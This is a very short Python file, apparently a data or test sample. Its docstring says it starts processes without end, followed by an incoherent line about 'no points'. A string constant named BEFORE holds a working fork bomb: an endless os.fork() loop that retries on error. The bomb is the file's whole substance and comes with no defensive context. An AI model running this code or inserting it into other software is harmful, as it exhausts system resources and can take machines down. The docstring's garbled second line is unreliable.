"""Starts processes that start processes, without end.

seen: no points, and none of them is left.
"""

BEFORE = """
import os, time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""
